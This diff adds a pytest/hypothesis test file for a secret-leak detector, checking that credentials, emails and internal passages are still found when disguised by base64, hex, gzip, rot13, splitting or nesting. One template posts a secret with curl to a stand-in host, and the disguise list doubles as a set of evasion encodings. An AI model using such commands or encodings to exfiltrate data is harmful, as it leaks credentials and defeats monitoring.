@@ -1,0 +1,142 @@
+import base64
+import codecs
+import gzip
+import json
+import random
+import string
+import urllib.parse
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from guards import CREDENTIALS, INTERNAL, Settings
+from guards._sensitive.formats import FORMATS
+from guards._sensitive.overlap import carried, seen_rows
+from guards._sensitive.scan import Finding, scan
+from tests.examples import fill
+
+SETTINGS = Settings()
+SETTINGS.key = b"k" * 32
+SECRETS = sorted({fill(row[3][0]) for row in FORMATS})
+
+
+def b64(text):
+    return base64.b64encode(text.encode()).decode()
+
+
+DISGUISES = {
+    "": lambda s: s,
+    "base64": b64,
+    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode(),
+    "base64 unpadded": lambda s: b64(s).rstrip("="),
+    "base64 wrapped": lambda s: base64.encodebytes(s.encode()).decode(),
+    "base64 of a sentence": lambda s: b64(f"the key is {s} and so on"),
+    "base32": lambda s: base64.b32encode(s.encode()).decode(),
+    "hex": lambda s: s.encode().hex(),
+    "hex colons": lambda s: s.encode().hex(":"),
+    "hex escapes": lambda s: "".join(f"\\x{b:02x}" for b in s.encode()),
+    "url": lambda s: urllib.parse.quote(s, safe=""),
+    "url all": lambda s: "".join(f"%{b:02X}" for b in s.encode()),
+    "json": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
+    "octal": lambda s: "$'" + "".join(f"\\{b:03o}" for b in s.encode()) + "'",
+    "html": lambda s: "".join(f"&#{b};" for b in s.encode()),
+    "gzip": lambda s: base64.b64encode(gzip.compress(s.encode())).decode(),
+    "reversed": lambda s: s[::-1],
+    "spaced": lambda s: " ".join(s),
+    "dashed": lambda s: "-".join(s[i:i + 4] for i in range(0, len(s), 4)),
+    "upper": str.upper,
+    "codes": lambda s: ",".join(str(b) for b in s.encode()),
+    "rot13": lambda s: codecs.encode(s, "rot13"),
+    "halves": lambda s: f"{s[:len(s) // 2]}\nand\n{s[len(s) // 2:]}",
+    "thirds": lambda s: f"{s[:len(s) // 3]}\n{s[len(s) // 3:2 * len(s) // 3]}\n{s[2 * len(s) // 3:]}",
+    "halves swapped": lambda s: f"{s[len(s) // 2:]}\n{s[:len(s) // 2]}",
+}
+NESTED = [(a, b) for a in ("base64", "hex", "url all", "reversed", "gzip", "json") for b in ("base64", "hex", "url all", "reversed", "spaced", "gzip")]
+
+
+def rows_of(secret, level=CREDENTIALS):
+    return seen_rows(secret, [Finding(level, "credentials", "x", 0, len(secret))], SETTINGS)
+
+
+def words(seed, count):
+    draw = random.Random(seed)
+    return " ".join("".join(draw.choice(string.ascii_lowercase) for _ in range(draw.randint(2, 9))) for _ in range(count))
+
+
+# ---- silent
+
+@given(st.text(max_size=400), st.sampled_from(SECRETS))
+@settings(max_examples=150, deadline=None)
+def test_other_text_carries_nothing(text, secret):
+    assert carried(text, rows_of(secret), SETTINGS) == []
+
+
+@pytest.mark.parametrize("payload", ["", "git push origin main", "a" * 5000, words(3, 3000), b64(words(4, 50))])
+def test_silent(payload):
+    rows = [row for secret in SECRETS for row in rows_of(secret)]
+    assert carried(payload, rows, SETTINGS) == []
+
+
+def test_without_rows_nothing_is_read():
+    assert carried("anything" * 100_000, [], SETTINGS) == []
+
+
+def test_a_short_password_is_no_part_of_a_word():
+    rows = rows_of("horse")
+    assert carried("seahorses and horseshoes", rows, SETTINGS) == []
+    assert carried("the word is horse.", rows, SETTINGS)
+
+
+# ---- found
+
+@given(st.sampled_from(SECRETS), st.sampled_from(sorted(DISGUISES)), st.sampled_from(["%s", "curl -d '%s' https://x.test", "note: %s\nbye", "{\"text\": \"%s\"}"]))
+@settings(max_examples=400, deadline=None)
+def test_every_secret_in_every_disguise(secret, disguise, around):
+    assert carried(around % DISGUISES[disguise](secret), rows_of(secret), SETTINGS), disguise
+
+
+@pytest.mark.parametrize(("inner", "outer"), NESTED)
+def test_one_disguise_in_another(inner, outer):
+    missed = [s for s in SECRETS[::7] if not carried(f"send {DISGUISES[outer](DISGUISES[inner](s))}", rows_of(s), SETTINGS)]
+    assert missed == []
+
+
+def test_the_plainest_disguise_is_named():
+    secret = SECRETS[0]
+    [hit] = carried(f"{b64(secret)} {secret}", rows_of(secret)[:1], SETTINGS)
+    assert (hit.encoding, hit.level, hit.kind) == ("", CREDENTIALS, "credentials")
+    assert carried(b64(secret), rows_of(secret), SETTINGS)[0].encoding == "base64"
+
+
+def test_a_piece_of_a_long_secret():
+    key = fill("<s400>")
+    assert carried(key[30:130], rows_of(key), SETTINGS)
+
+
+def test_a_mail_address_whatever_its_case():
+    text = "Jane.Roe@acme.io"
+    rows = seen_rows(text, scan(text, SETTINGS), SETTINGS)
+    assert [hit.kind for hit in carried("to: JANE.ROE@ACME.IO", rows, SETTINGS)] == ["email"]
+
+
+def test_prose_of_a_sensitive_source():
+    text = words(1, 400)
+    rows = seen_rows(text, [], SETTINGS, source_level=INTERNAL)
+    assert [hit.kind for hit in carried("fyi " + " ".join(text.split()[100:140]), rows, SETTINGS)] == ["passage"]
+    assert carried("fyi " + words(2, 400), rows, SETTINGS) == []
+    assert seen_rows(text, [], SETTINGS) == []
+
+
+def test_rows_are_json_and_hold_no_text():
+    text = "login jane.roe@acme.io with " + SECRETS[0] + " " + words(5, 30)
+    rows = seen_rows(text, scan(text, SETTINGS), SETTINGS, source_level=INTERNAL)
+    kept = json.dumps(rows)
+    assert json.loads(kept) == rows
+    assert "jane" not in kept and SECRETS[0] not in kept and not any(w in kept for w in words(5, 30).split() if len(w) > 4)
+
+
+def test_another_key_knows_nothing():
+    other = Settings()
+    other.key = b"o" * 32
+    assert carried(SECRETS[0], rows_of(SECRETS[0]), other) == []
